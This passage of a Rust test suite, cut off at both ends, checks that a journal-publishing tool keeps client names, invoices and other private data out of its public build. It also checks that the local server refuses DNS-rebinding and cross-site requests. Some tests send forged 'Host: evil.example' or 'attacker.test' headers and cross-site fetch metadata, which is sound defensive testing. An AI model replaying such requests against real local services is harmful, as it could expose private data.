        body.push_str("## Leçons\n\nZqx7Pub600 : une leçon.\n\n");
        for (form, _) in of(Spot::Lessons) {
            place(&mut body, *form, true, false);
        }
        for (form, _) in of(Spot::Comment) {
            place(&mut body, *form, false, true);
        }
        body.push_str("### Accès\n\n");
        for (form, _) in of(Spot::Nested) {
            place(&mut body, *form, false, false);
        }
        for (i, heading) in PRIVATE_HEADINGS.iter().enumerate() {
            let here: Vec<_> = of(Spot::Private(i)).collect();
            if here.is_empty() {
                continue;
            }
            if heading.starts_with("###") {
                body.push_str("## Journal\n\n");
            }
            body.push_str(&format!("{heading}\n\n"));
            for (form, _) in here {
                place(&mut body, *form, false, false);
            }
        }
        body.push_str("## Accès\n\nIdentifiants\n---\n\n");
        for (form, _) in of(Spot::Setext) {
            place(&mut body, *form, false, false);
        }
        expected.sort_unstable();
        (journal.body(&body), expected)
    }

    /// Writes the journal of `agreement_journal` into a fresh book; returns the book and the
    /// expected `(path, line)` of each diagnostic.
    pub fn agreement_book(
        case_study: bool,
        title_named: bool,
        tags_named: bool,
        placements: &[(usize, Spot)],
    ) -> (TempBook, String, Vec<(String, usize)>) {
        let (text, lines) = agreement_journal(case_study, title_named, tags_named, placements);
        let book = book();
        let rel = "content/missions/2025/mission.md";
        book.file(rel, &text);
        write_bytes(&book, "content/missions/2025/logo.png", &png(77, &[], &[]));
        let expected = lines.into_iter().map(|l| (rel.to_string(), l)).collect();
        (book, text, expected)
    }

    /// What must hold for an agreement book: lint reports exactly the expected lines; the public
    /// build holds no name and shows the alias. `Err` describes the disagreement.
    pub fn agreement_holds(
        book: &TempBook,
        text: &str,
        expected: &[(String, usize)],
    ) -> Result<(), String> {
        let mut problems = Vec::new();
        let found = leak_lines(book.root());
        if found != expected {
            problems.push(format!(
                "client-name-leak lines: lint reported {:?}, the public text names the client on {:?}",
                found.iter().map(|(_, l)| l).collect::<Vec<_>>(),
                expected.iter().map(|(_, l)| l).collect::<Vec<_>>()
            ));
        }
        let site = public_site(book);
        problems.extend(leaks(&site, NAME_WORDS));
        for public in ["Zqx7Alias600", "Zqx7Pub600"] {
            if site.find_word(public).is_empty() {
                problems.push(format!("MISSING {public} from the public build"));
            }
        }
        if problems.is_empty() {
            Ok(())
        } else {
            let numbered: String = text
                .lines()
                .enumerate()
                .map(|(i, l)| format!("{:>3} | {l}\n", i + 1))
                .collect();
            Err(format!("{}\n--- journal:\n{numbered}", problems.join("\n")))
        }
    }

    #[test]
    fn every_name_the_build_substitutes_is_reported_once_in_a_case_study() {
        let mut placements: Vec<(usize, Spot)> =
            (0..FORMS.len()).map(|f| (f, Spot::Lessons)).collect();
        placements.extend((0..FORMS.len()).map(|f| (f, Spot::Context)));
        placements.extend([
            (0, Spot::Nested),
            (7, Spot::Comment),
            (3, Spot::Setext),
            (16, Spot::Private(1)),
        ]);
        let (book, text, expected) = agreement_book(true, true, true, &placements);
        assert_eq!(expected.len(), 2 * FORMS.len() + 2);
        if let Err(e) = agreement_holds(&book, &text, &expected) {
            panic!("{e}");
        }
    }

    #[test]
    fn every_name_the_build_substitutes_is_reported_once_in_a_lessons_section() {
        let mut placements: Vec<(usize, Spot)> =
            (0..FORMS.len()).map(|f| (f, Spot::Lessons)).collect();
        placements.extend((0..FORMS.len()).map(|f| (f, Spot::Context)));
        placements.extend([
            (0, Spot::Nested),
            (9, Spot::Nested),
            (7, Spot::Comment),
            (12, Spot::Setext),
            (15, Spot::Private(5)),
        ]);
        let (book, text, expected) = agreement_book(false, true, false, &placements);
        assert_eq!(expected.len(), FORMS.len());
        if let Err(e) = agreement_holds(&book, &text, &expected) {
            panic!("{e}");
        }
    }

    #[test]
    fn names_only_in_private_places_are_never_reported() {
        let placements: Vec<(usize, Spot)> = (0..FORMS.len())
            .map(|f| {
                let spots = [
                    Spot::Nested,
                    Spot::Comment,
                    Spot::Setext,
                    Spot::Private(f % PRIVATE_HEADINGS.len()),
                ];
                (f, spots[f % spots.len()])
            })
            .collect();
        let (book, text, expected) = agreement_book(false, false, false, &placements);
        assert_eq!(expected, Vec::<(String, usize)>::new());
        if let Err(e) = agreement_holds(&book, &text, &expected) {
            panic!("{e}");
        }
    }

    // -- The example book: a reference reading of privacy.md for plain journals ---------------

    const LESSONS_ALIASES: &[&str] = &[
        "Leçons",
        "Leçons apprises",
        "Enseignements",
        "Retour d'expérience",
        "RETEX",
        "Introspection",
        "Rétrospective",
        "Bilan de mission",
        "Lessons",
        "Lessons learned",
        "Retrospective",
    ];

    const PRIVATE_ALIASES: &[&str] = &[
        "Accès",
        "Accès outils",
        "Access",
        "Tool access",
        "RGPD",
        "Données personnelles",
        "GDPR",
        "Personal data",
        "Factures",
        "Facture",
        "Facturation",
        "Invoices",
        "Invoice",
        "Billing",
    ];

    /// A heading's text normalised: decoded, folded, markup and surrounding symbols removed.
    fn heading_norm(text: &str) -> String {
        let folded = fold(&decode_entities(text)).replace(['*', '_', '`'], "");
        let trimmed = folded.trim_matches(|c: char| !c.is_alphanumeric());
        trimmed.split_whitespace().collect::<Vec<_>>().join(" ")
    }

    fn is_private_heading(text: &str) -> bool {
        let norm = heading_norm(text);
        PRIVATE_ALIASES.iter().any(|a| {
            let a = heading_norm(a);
            norm.strip_prefix(&a)
                .is_some_and(|rest| !rest.starts_with(|c: char| c.is_alphabetic()))
        })
    }

    fn is_lessons_heading(text: &str) -> bool {
        let norm = heading_norm(text);
        LESSONS_ALIASES.iter().any(|a| heading_norm(a) == norm)
    }

    /// A front-matter value (YAML `key: v` or TOML `key = v`, quotes removed) and its line.
    fn front_value(source: &str, key: &str) -> Option<(String, usize)> {
        let mut lines = source.lines().enumerate();
        let (_, fence) = lines.next()?;
        for (i, line) in lines {
            if line == fence {
                return None;
            }
            let Some(rest) = line.strip_prefix(key) else {
                continue;
            };
            let rest = rest.trim_start();
            let Some(value) = rest.strip_prefix(':').or_else(|| rest.strip_prefix('=')) else {
                continue;
            };
            let value = value.trim();
            let value = value
                .strip_prefix('"')
                .and_then(|v| v.strip_suffix('"'))
                .unwrap_or(value);
            return Some((value.to_string(), i + 1));
        }
        None
    }

    /// The public text of a plain journal (ATX headings, fenced code, no containers), as
    /// `(line, text)`, per privacy.md: the title and the body minus private sections for a case
    /// study; the lessons sections minus private subsections for a lessons-only mission.
    fn public_text(source: &str, case_study: bool) -> Vec<(usize, String)> {
        let mut out = Vec::new();
        if case_study && let Some((title, line)) = front_value(source, "title") {
            out.push((line, title));
        }
        let mut lines = source.lines().enumerate();
        let fence = lines.next().map(|(_, l)| l.to_string()).unwrap_or_default();
        for (_, line) in lines.by_ref() {
            if line == fence {
                break;
            }
        }
        let mut stack: Vec<(usize, bool, bool)> = Vec::new(); // (level, private, lessons)
        let mut in_code = false;
        for (i, line) in lines {
            let trimmed = line.trim_start();
            let indent = line.len() - trimmed.len();
            if indent < 4 && (trimmed.starts_with("```") || trimmed.starts_with("~~~")) {
                in_code = !in_code;
            } else if !in_code && indent < 4 {
                let hashes = trimmed.chars().take_while(|c| *c == '#').count();
                let after = &trimmed[hashes..];
                if (1..=6).contains(&hashes) && (after.is_empty() || after.starts_with(' ')) {
                    let text = after.trim().trim_end_matches('#').trim();
                    stack.retain(|(l, ..)| *l < hashes);
                    stack.push((hashes, is_private_heading(text), is_lessons_heading(text)));
                }
            }
            let private = stack.iter().any(|(_, p, _)| *p);
            let lessons = stack.iter().any(|(_, _, l)| *l);
            if !private && (case_study || lessons) {
                out.push((i + 1, line.to_string()));
            }
        }
        out
    }

    /// The lines where a name occurs in `public` (whole words, after decoding and folding, HTML
    /// comments excluded).
    fn name_lines(public: &[(usize, String)], name: &str) -> Vec<usize> {
        let mut tokens: Vec<(String, usize)> = Vec::new();
        let mut in_comment = false;
        for (line, text) in public {
            let mut visible = String::new();
            let mut rest = text.as_str();
            loop {
                if in_comment {
                    match rest.find("-->") {
                        Some(end) => {
                            rest = &rest[end + 3..];
                            in_comment = false;
                        }
                        None => break,
                    }
                } else {
                    match rest.find("<!--") {
                        Some(start) => {
                            visible.push_str(&rest[..start]);
                            rest = &rest[start + 4..];
                            in_comment = true;
                        }
                        None => {
                            visible.push_str(rest);
                            break;
                        }
                    }
                }
            }
            let visible: String = decode_entities(&visible)
                .chars()
                .filter(|c| {
                    !matches!(
                        c,
                        '\u{200B}'..='\u{200D}' | '\u{2060}' | '\u{FEFF}' | '\u{AD}'
                    )
                })
                .collect();
            for word in words(&fold(&visible)).split(' ').filter(|w| !w.is_empty()) {
                tokens.push((word.to_string(), *line));
            }
        }
        let name = words(&fold(name));
        let name: Vec<&str> = name.split(' ').collect();
        let mut found = Vec::new();
        let mut i = 0;
        while i + name.len() <= tokens.len() {
            if tokens[i..i + name.len()]
                .iter()
                .map(|(w, _)| w.as_str())
                .eq(name.iter().copied())
            {
                found.push(tokens[i].1);
                i += name.len();
            } else {
                i += 1;
            }
        }
        found
    }

    #[test]
    fn lint_and_build_agree_on_the_example_book() {
        let root = support::site::example_book();
        let content = root.join("content");
        let mut expected = Vec::new();
        let mut all_names = Vec::new();
        let mut aliases = Vec::new();
        for entry in walkdir::WalkDir::new(&content).sort_by_file_name() {
            let entry = entry.unwrap();
            let path = entry.path();
            if path.extension().is_none_or(|e| e != "md")
                || path.file_name().unwrap() == "_index.md"
            {
                continue;
            }
            let source = std::fs::read_to_string(path).unwrap();
            let rel = path
                .strip_prefix(&root)
                .unwrap()
                .components()
                .map(|c| c.as_os_str().to_string_lossy().into_owned())
                .collect::<Vec<_>>()
                .join("/");
            let Some((client, _)) = front_value(&source, "client") else {
                continue;
            };
            all_names.push((client.clone(), rel.clone()));
            let publish = front_value(&source, "publish").map(|(p, _)| p);
            let case_study = match publish.as_deref() {
                Some("case-study") => true,
                Some("lessons") => false,
                _ => continue,
            };
            // A draft is not published (without `--drafts`): its alias need not show.
            let draft = front_value(&source, "draft").is_some_and(|(d, _)| d == "true");
            if let Some((alias, _)) = front_value(&source, "client_alias")
                && !draft
            {
                aliases.push((alias, rel.clone()));
            }
            let public = public_text(&source, case_study);
            for line in name_lines(&public, &client) {
                expected.push((rel.clone(), line));
            }
        }
        expected.sort();
        assert!(
            !all_names.is_empty() && !aliases.is_empty(),
            "the example book has missions"
        );
        assert_eq!(
            leak_lines(&root),
            expected,
            "lint's client-name-leak (left) against the names in the example book's public text (right)"
        );

        let site = site_of(&root, "public");
        let mut report = Vec::new();
        for (name, rel) in &all_names {
            for place in site.find_phrase(name) {
                report.push(format!("LEAK client name `{name}` of {rel}: {place}"));
            }
        }
        for (alias, rel) in &aliases {
            if site.find_phrase(alias).is_empty() {
                report.push(format!("MISSING alias `{alias}` of {rel}"));
            }
        }
        assert!(report.is_empty(), "{}", report.join("\n"));
    }
}

/// Property tests: generated journals with markers in private places (private sections at any
/// depth, setext lines inside them, footnotes, comments, linked private files and their file
/// names, image metadata, facts, tags, URLs, attributes) and in public places. Each case runs the
/// binary, so the case counts are small; failures are not persisted (they would record version 1's
/// leaks), and shrinking is bounded.
mod properties {
    use super::lint_agreement::{
        FORMS, PRIVATE_HEADINGS as AGREEMENT_PRIVATE, Spot, agreement_book, agreement_holds,
    };
    use super::*;
    use proptest::prelude::*;
    use proptest::test_runner::Config;

    const PUBLIC_HEADINGS: &[&str] = &[
        "Contexte",
        "Journal",
        "Détails",
        "Résultats",
        "Accessibilité",
        "Facteurs de succès",
    ];
    const LESSONS_HEADINGS: &[&str] = &[
        "Leçons",
        "Leçons apprises",
        "Lessons learned",
        "Retour d'expérience",
        "RETEX",
    ];
    const PRIVATE_HEADINGS: &[&str] = &[
        "Accès",
        "Accès (outils)",
        "Accès — retirés le 2 juillet",
        "Facture",
        "Factures 2025",
        "Invoice",
        "Billing",
        "RGPD",
        "Données personnelles",
        "GDPR",
        "Tool access",
        "*Accès*",
        "🔑 ACCÈS :",
        "Accès {#outils}",
        "1. Accès",
        "2025-03-01 — Factures",
    ];
    /// Name forms the public build must substitute (client `Maison Zqx7Lumière`,
    /// `client_names` `Zqx7Marque` and `L'Atelier Zqx7Apos`).
    const NAME_FORMS: &[&str] = &[
        "Maison Zqx7Lumière",
        "MAISON ZQX7LUMIERE",
        "Maison Zqx7Lumie\u{301}re",
        "Maison Zqx7Lu\u{200B}mière",
        "Maison Zqx7Lu&shy;mière",
        "&#77;aison Zqx7Lumière",
        "Maison *Zqx7Lumière*",
        "Maison&nbsp;Zqx7Lumière",
        "Maison-Zqx7Lumière",
        "Maison\nZqx7Lumière",
        "Zqx7Marque",
        "L’Atelier Zqx7Apos",
    ];

    #[derive(Debug, Clone, Copy, PartialEq)]
    enum Kind {
        Public,
        Lessons,
        Private,
    }

    #[derive(Debug, Clone, Copy)]
    enum Content {
        Paragraph,
        ListItem,
        Quote,
        Table,
        Code,
        /// Inside a private section: `text` + `---`, then a secret.
        Setext,
        /// A footnote whose definition holds `## Accès` and a secret.
        FootnoteAccess,
        /// A link to a private journal, in one of several spellings.
        LinkToPrivate(usize),
        /// An image with metadata (0: PNG, 1: JPEG).
        Image(usize),
        Comment,
        Name(usize),
        FootnoteLabelName,
        UrlName,
        TitleName,
        RawTitleName,
    }

    #[derive(Debug, Clone, Copy)]
    enum Block {
        Heading(usize, Kind, usize),
        Content(Content),
    }

    fn block() -> impl Strategy<Value = Block> {
        let kind = prop_oneof![
            1 => Just(Kind::Public),
            1 => Just(Kind::Lessons),
            2 => Just(Kind::Private),
        ];
        let content = prop_oneof![
            1 => Just(Content::Paragraph),
            1 => Just(Content::ListItem),
            1 => Just(Content::Quote),
            1 => Just(Content::Table),
            1 => Just(Content::Code),
            2 => Just(Content::Setext),
            1 => Just(Content::FootnoteAccess),
            2 => (0..8usize).prop_map(Content::LinkToPrivate),
            1 => (0..2usize).prop_map(Content::Image),
            1 => Just(Content::Comment),
            2 => (0..NAME_FORMS.len()).prop_map(Content::Name),
            1 => Just(Content::FootnoteLabelName),
            1 => Just(Content::UrlName),
            1 => Just(Content::TitleName),
            1 => Just(Content::RawTitleName),
        ];
        prop_oneof![
            2 => (2..=6usize, kind, 0..16usize).prop_map(|(l, k, i)| Block::Heading(l, k, i)),
            5 => content.prop_map(Block::Content),
        ]
    }

    /// A generated book: its files, its secrets (with where they were put) and its public words.
    struct Generated {
        case_study: bool,
        body: String,
        stack: Vec<(usize, Kind, String)>,
        n: usize,
        footnotes: usize,
        secrets: Vec<(String, String)>,
        public: Vec<String>,
        files: Vec<(String, Vec<u8>)>,
    }

    impl Generated {
        fn new(case_study: bool) -> Generated {
            Generated {
                case_study,
                body: String::new(),
                stack: Vec::new(),
                n: 0,
                footnotes: 0,
                secrets: Vec::new(),
                public: Vec::new(),
                files: Vec::new(),
            }
        }

        fn is_public(&self) -> bool {
            let private = self.stack.iter().any(|(_, k, _)| *k == Kind::Private);
            let lessons = self.stack.iter().any(|(_, k, _)| *k == Kind::Lessons);
            !private && (self.case_study || lessons)
        }

        fn context(&self) -> String {
            let path: Vec<&str> = self.stack.iter().map(|(_, _, h)| h.as_str()).collect();
            let kind = if self.case_study {
                "case study"
            } else {
                "lessons-only"
            };
            if path.is_empty() {
                format!("{kind}, before any heading")
            } else {
                format!("{kind}, under {}", path.join(" > "))
            }
        }

        fn fresh(&mut self) -> String {
            self.n += 1;
            format!("Zqx7Mk{:03}", self.n)
        }

        /// A marker public or private as the place it is written in.
        fn here(&mut self, what: &str) -> String {
            let m = self.fresh();
            if self.is_public() {
                self.public.push(m.clone());
            } else {
                let why = format!("{what} ({})", self.context());
                self.secrets.push((m.clone(), why));
            }
            m
        }

        /// A marker that is private wherever it is written.
        fn secret(&mut self, what: &str) -> String {
            let m = self.fresh();
            let why = format!("{what} ({})", self.context());
            self.secrets.push((m.clone(), why));
            m
        }

        fn heading(&mut self, level: usize, kind: Kind, i: usize) {
            let text = match kind {
                Kind::Public => PUBLIC_HEADINGS[i % PUBLIC_HEADINGS.len()],
                Kind::Lessons => LESSONS_HEADINGS[i % LESSONS_HEADINGS.len()],
                Kind::Private => PRIVATE_HEADINGS[i % PRIVATE_HEADINGS.len()],
            };
            let line = format!("{} {text}", "#".repeat(level));
            self.body.push_str(&format!("{line}\n\n"));
            self.stack.retain(|(l, ..)| *l < level);
            self.stack.push((level, kind, format!("`{line}`")));
        }

        fn content(&mut self, content: Content) {
            match content {
                Content::Paragraph => {
                    let m = self.here("paragraph");
                    self.body.push_str(&format!("{m} texte.\n\n"));
                }
                Content::ListItem => {
                    let m = self.here("list item");
                    self.body
                        .push_str(&format!("- [ ] {m} élément\n- autre\n\n"));
                }
                Content::Quote => {
                    let m = self.here("block quote");
                    self.body.push_str(&format!("> {m} citation\n\n"));
                }
                Content::Table => {
                    let m = self.here("table cell");
                    self.body
                        .push_str(&format!("| a | b |\n|---|---|\n| {m} | x |\n\n"));
                }
                Content::Code => {
                    let m = self.here("fenced code");
                    self.body.push_str(&format!("```\n{m} code\n```\n\n"));
                }
                Content::Setext if self.is_public() => self.content(Content::Paragraph),
                Content::Setext => {
                    let s = self.secret("after a setext heading");
                    // The underlined line is not itself a private heading: a setext heading
                    // named like one (`Identifiants`) opens a private section of its own level
                    // (docs/privacy.md), which would hide the public sections below it.
                    self.body.push_str(&format!(
                        "Compte du back-office\n---\n\n{s} mot de passe\n\n"
                    ));
                    // Whether that setext heading ends an enclosing lessons section is not
                    // what this checks: start a fresh one.
                    if !self.case_study {
                        self.heading(2, Kind::Lessons, 0);
                    }
                }
                Content::FootnoteAccess => {
                    self.footnotes += 1;
                    let k = self.footnotes;
                    let m1 = self.here("text with a footnote reference");
                    let m2 = self.here("footnote definition, before its `## Accès`");
                    let s = self.secret("`## Accès` inside a footnote definition");
                    self.body.push_str(&format!(
                        "{m1} voir la note[^n{k}].\n\n[^n{k}]: {m2} la note.\n    ## Accès\n    {s} mot de passe.\n\n"
                    ));
                    // A fresh top-level section, so no reading of where the footnote's heading
                    // ends matters for what follows.
                    if self.case_study {
                        self.heading(2, Kind::Public, 0);
                    } else {
                        self.heading(2, Kind::Lessons, 0);
                    }
                }
                Content::LinkToPrivate(variant) => {
                    let file = self
                        .secret("file name of a linked private journal")
                        .to_lowercase();
                    let body = self.secret("body of a linked private journal");
                    let m = self.here("text of a link to a private journal");
                    let link = match variant {
                        0 => format!("[{m} texte]({file}.md)"),
                        1 => format!("{m} ![plan]({file}.md)"),
                        2 => format!("[{m} texte]({file}.md?1)"),
                        3 => format!("[{m} texte]({file}.md/)"),
                        4 => format!("[{m} texte](./x/../{file}.md)"),
                        5 => format!("{m} <a href=\"{file}.md\">texte</a>"),
                        6 => format!("{m} <img src=\"{file}.md\" alt=\"plan\">"),
                        _ => format!("[{m} texte]({file}%2Emd)"),
                    };
                    self.body.push_str(&format!("{link}\n\n"));
                    self.files.push((
                        format!("content/missions/2025/{file}.md"),
                        private_note(&body).into_bytes(),
                    ));
                }
                Content::Image(kind) => {
                    let file = self.secret("an image's file name").to_lowercase();
                    let a = self.secret("image metadata (text chunk, Exif description)");
                    let b = self.secret("image metadata (Exif artist, XMP)");
                    let c = self.secret("image metadata (GPS, comment)");
                    let m = self.here("text next to an image");
                    let (name, bytes) = if kind == 0 {
                        (
                            format!("img/{file}.png"),
                            png(
                                (self.n % 256) as u8,
                                &[
                                    png_text("Author", &a),
                                    png_chunk(b"eXIf", &exif_tiff(&a, &b, &c)),
                                    png_itxt("Comment", &c),
                                ],
                                &[],
                            ),
                        )
                    } else {
                        (
                            format!("img/{file}.jpg"),
                            jpeg(&[
                                jpeg_exif(&exif_tiff(&a, &b, &c)),
                                jpeg_xmp(&b),
                                jpeg_comment(&c),
                            ]),
                        )
                    };
                    self.body.push_str(&format!("{m} ![photo]({name})\n\n"));
                    self.files
                        .push((format!("content/missions/2025/{name}"), bytes));
                }
                Content::Comment => {
                    let m = self.here("text before a comment");
                    let s = self.secret("HTML comment");
                    self.body.push_str(&format!("{m} <!-- {s} -->\n\n"));
                }
                Content::Name(form) => {
                    let m = self.here("text naming the client");
                    self.body
                        .push_str(&format!("{m} chez {} ici.\n\n", NAME_FORMS[form]));
                }
                Content::FootnoteLabelName => {
                    let m = self.here("text with a footnote labelled by a name");
                    self.body.push_str(&format!(
                        "{m} note[^Zqx7Marque].\n\n[^Zqx7Marque]: la note.\n\n"
                    ));
                }
                Content::UrlName => {
                    let m = self.here("link whose URL names the client");
                    self.body
                        .push_str(&format!("[{m} le site](https://www.zqx7marque.fr/).\n\n"));
                }
                Content::TitleName => {
                    let m = self.here("link whose title names the client");
                    self.body.push_str(&format!(
                        "[{m} le site](https://example.org/ \"Maison Zqx7Lumière\").\n\n"
                    ));
                }
                Content::RawTitleName => {
                    let m = self.here("raw HTML whose title names the client");
                    self.body.push_str(&format!(
                        "{m} <abbr title=\"&#77;aison Zqx7Lumi&egrave;re\">ML</abbr>.\n\n"
                    ));
                }
            }
        }
    }

    /// Writes the generated book; returns it with its secrets and public words.
    fn generate(
        case_study: bool,
        brand_tag: bool,
        blocks: &[Block],
    ) -> (TempBook, Generated, String) {
        let mut g = Generated::new(case_study);
        if case_study {
            let m = g.here("introduction");
            g.body.push_str(&format!("{m} introduction.\n\n"));
        } else {
            g.heading(2, Kind::Lessons, 0);
            let m = g.here("first lesson");
            g.body.push_str(&format!("{m} leçon.\n\n"));
        }
        for b in blocks {
            match *b {
                Block::Heading(level, kind, i) => g.heading(level, kind, i),
                Block::Content(c) => g.content(c),
            }
        }
        let journal = if case_study {
            Journal::case_study("Refonte pour Maison Zqx7Lumière", "Maison Zqx7Lumière", "une boutique Zqx7Alias700")
        } else {
            Journal::lessons("Bilan Maison Zqx7Lumière", "Maison Zqx7Lumière", Some("une boutique Zqx7Alias700"))
        }
        .line("client_names: [\"Zqx7Marque\", \"L'Atelier Zqx7Apos\"]")
        .set("tags", if brand_tag { "[web, zqx7marque]" } else { "[web]" })
        .set("end_reason", "\"Zqx7Reason901 : internalisation\"")
        .line("invoices:\n  - { number: \"Zqx7Inv902\", amount: 73519.27, issued: 2025-06-27, due: 2025-07-27, paid: 2025-07-20 }")
        .line("rgpd: { notified: 2025-06-27, deleted: 2025-07-10, hold: \"Zqx7Hold903\" }");
        for (m, why) in [
            ("Zqx7Reason901", "free-text `end_reason`"),
            ("Zqx7Inv902", "invoice number"),
            ("Zqx7Hold903", "`rgpd.hold`"),
            ("zqx7file904", "the published mission's file name"),
            ("Zqx7PrivTitle905", "a private mission's title"),
            ("Zqx7PrivTag906", "a private mission's tag"),
            ("Zqx7PrivBody907", "a private mission's body"),
            ("Zqx7Lumière", "the client's name"),
            ("Zqx7Marque", "a `client_names` entry"),
            ("Zqx7Apos", "a `client_names` entry with an apostrophe"),
        ] {
            g.secrets.push((m.to_string(), why.to_string()));
        }
        g.public.push("Zqx7Alias700".to_string());
        let text = journal.body(&g.body);
        let book = book();
        book.file("content/missions/2025/zqx7file904-mission.md", &text)
            .file(
                "content/missions/2025/autre.md",
                Journal::private("Zqx7PrivTitle905", "Client confidentiel")
                    .set("tags", "[Zqx7PrivTag906]")
                    .body("Zqx7PrivBody907 rien de public.\n"),
            );
        for (rel, bytes) in &g.files {
            write_bytes(&book, rel, bytes);
        }
        (book, g, text)
    }

    fn numbered(text: &str) -> String {
        text.lines()
            .enumerate()
            .map(|(i, l)| format!("{:>3} | {l}\n", i + 1))
            .collect()
    }

    fn config(cases: u32) -> Config {
        Config {
            cases,
            max_shrink_iters: 48,
            failure_persistence: None,
            ..Config::default()
        }
    }

    proptest! {
        #![proptest_config(config(64))]

        #[test]
        fn no_private_marker_reaches_the_public_build_and_every_public_one_does(
            case_study in any::<bool>(),
            brand_tag in any::<bool>(),
            blocks in prop::collection::vec(block(), 1..14),
        ) {
            let (book, g, text) = generate(case_study, brand_tag, &blocks);
            let site = public_site(&book);
            let secrets: Vec<Secret> = g.secrets.iter().map(|(m, w)| (m.as_str(), w.as_str())).collect();
            let mut report = leaks(&site, &secrets);
            for m in &g.public {
                if site.find_word(m).is_empty() {
                    report.push(format!("MISSING public marker {m}"));
                }
            }
            prop_assert!(
                report.is_empty(),
                "{}\n--- journal:\n{}--- build stderr:\n{}",
                report.join("\n"),
                numbered(&text),
                site.stderr
            );
        }
    }

    fn spot() -> impl Strategy<Value = Spot> {
        prop_oneof![
            3 => Just(Spot::Lessons),
            2 => Just(Spot::Context),
            1 => Just(Spot::Nested),
            1 => Just(Spot::Comment),
            1 => (0..AGREEMENT_PRIVATE.len()).prop_map(Spot::Private),
            1 => Just(Spot::Setext),
        ]
    }

    proptest! {
        #![proptest_config(config(48))]

        #[test]
        fn lint_reports_exactly_the_names_the_public_build_substitutes(
            case_study in any::<bool>(),
            title_named in any::<bool>(),
            tags_named in any::<bool>(),
            placements in prop::collection::vec((0..FORMS.len(), spot()), 0..8),
        ) {
            let (book, text, expected) = agreement_book(case_study, title_named, tags_named, &placements);
            let holds = agreement_holds(&book, &text, &expected);
            prop_assert!(holds.is_ok(), "{}", holds.unwrap_err());
        }
    }
}

/// `debrief serve` shows the private view: it answers only requests addressed to it (`Host`
/// `localhost`, `127.0.0.1`, `[::1]` or the `--host` value), refuses cross-site subresource
/// requests, marks every response `Cross-Origin-Resource-Policy: same-origin`, and closes idle
/// connections. (`tests/serve.rs` sends `Host: x`: it has to send an allowed host in version 2.)
mod serve_origin {
    use super::*;

    /// A book whose private view names a client: the marker is in the title, so in `/` and in
    /// the search index.
    fn private_book() -> TempBook {
        let book = book();
        book.file(
            "content/missions/2025/secret.md",
            Journal::private("Zqx7Serve701 litige", "Zqx7ServeClient702")
                .body("## Journal\n\nZqx7Serve703 : le client doit 4 000 €.\n"),
        );
        book
    }

    fn no_marker(answer: &Answer) -> bool {
        let body = fold(&answer.body);
        !["zqx7serve701", "zqx7serveclient702", "zqx7serve703"]
            .iter()
            .any(|m| body.contains(m))
    }

    #[test]
    fn requests_for_another_host_are_refused() {
        let book = private_book();
        let served = Served::start(book.root(), &[]);
        let port = served.port;
        for host in [
            "evil.example".to_string(),
            format!("evil.example:{port}"),
            format!("127.0.0.1.evil.example:{port}"),
            format!("localhost.evil.example:{port}"),
            "attacker.test".to_string(),
        ] {
            for path in ["/", "/static/search-index.js"] {
                let answer = served.get(path, &[("Host", &host)]);
                assert!(
                    answer.status == 403 && no_marker(&answer),
                    "Host: {host} GET {path} → {} (DNS rebinding reads the private view):\n{}",
                    answer.status,
                    &answer.body[..answer.body.len().min(300)]
                );
            }
        }
        for host in [
            format!("localhost:{port}"),
            format!("127.0.0.1:{port}"),
            format!("[::1]:{port}"),
            "localhost".to_string(),
        ] {
            let answer = served.get("/", &[("Host", &host)]);
            assert!(
                answer.status == 200 && !no_marker(&answer),
                "Host: {host} is the server itself: 200 with the private view, got {}",
                answer.status
            );
        }
    }

    #[test]
    fn the_host_given_with_host_is_allowed() {
        let book = private_book();
        let served = Served::start(book.root(), &["--host", "carnet.test"]);
        let port = served.port;
        let ok = served.get("/", &[("Host", &format!("carnet.test:{port}"))]);
        assert_eq!(ok.status, 200, "the --host value is allowed");
        let refused = served.get("/", &[("Host", &format!("other.test:{port}"))]);
        assert!(refused.status == 403 && no_marker(&refused));
    }

    #[test]
    fn cross_site_subresource_requests_are_refused_and_navigations_are_not() {
        let book = private_book();
        let served = Served::start(book.root(), &[]);
        let host = format!("127.0.0.1:{}", served.port);
        // `<script src="http://127.0.0.1:3000/static/search-index.js">` on another site.
        for (mode, dest) in [
            ("no-cors", "script"),
            ("cors", "empty"),
            ("no-cors", "image"),
        ] {
            let answer = served.get(
                "/static/search-index.js",
                &[
                    ("Host", &host),
                    ("Sec-Fetch-Site", "cross-site"),
                    ("Sec-Fetch-Mode", mode),
                    ("Sec-Fetch-Dest", dest),
                ],
            );
            assert!(
                answer.status == 403 && no_marker(&answer),
                "a cross-site {mode}/{dest} request for the search index → {}",
                answer.status
            );
        }
        let navigation = served.get(
            "/",
            &[
                ("Host", &host),
                ("Sec-Fetch-Site", "cross-site"),
                ("Sec-Fetch-Mode", "navigate"),
                ("Sec-Fetch-Dest", "document"),
            ],
        );
        assert_eq!(
            navigation.status, 200,
            "following a link to the server works"
        );
        for site in ["same-origin", "none"] {
            let answer = served.get(
                "/static/search-index.js",
                &[
                    ("Host", &host),
                    ("Sec-Fetch-Site", site),
                    ("Sec-Fetch-Mode", "no-cors"),
                ],
            );
            assert_eq!(answer.status, 200, "Sec-Fetch-Site: {site}");
        }
    }

    #[test]
    fn every_response_says_cross_origin_resource_policy_same_origin() {
        let book = private_book();
        let served = Served::start(book.root(), &[]);
        let host = format!("127.0.0.1:{}", served.port);
        for (path, host) in [
            ("/", host.as_str()),
            ("/static/search-index.js", host.as_str()),
            ("/no-such-page/", host.as_str()),
            ("/", "evil.example"),
        ] {
            let answer = served.get(path, &[("Host", host)]);
            assert_eq!(
                answer.header("Cross-Origin-Resource-Policy").as_deref(),
                Some("same-origin"),
                "GET {path} (Host: {host}) → {}\n{}",
                answer.status,
                answer.headers
            );
        }
    }

    /// A client that sends half a request and waits is disconnected: the limit is not in
    /// privacy.md; 45 s leaves room for hyper's default of 30 s.
    #[test]
    fn an_idle_connection_is_closed() {
        use std::io::{Read, Write};
        let book = private_book();
        let served = Served::start(book.root(), &[]);
        let mut stream = std::net::TcpStream::connect(("127.0.0.1", served.port)).unwrap();
        write!(
            stream,
            "GET / HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n",
            served.port
        )
        .unwrap();
        stream
            .set_read_timeout(Some(std::time::Duration::from_millis(500)))
            .unwrap();
        let started = std::time::Instant::now();
        let mut buf = [0u8; 1024];
        loop {
            match stream.read(&mut buf) {
                Ok(0) => break,
                Ok(_) => continue,
                Err(e)
                    if matches!(
                        e.kind(),
                        std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                    ) => {}
                Err(_) => break,
            }
            assert!(
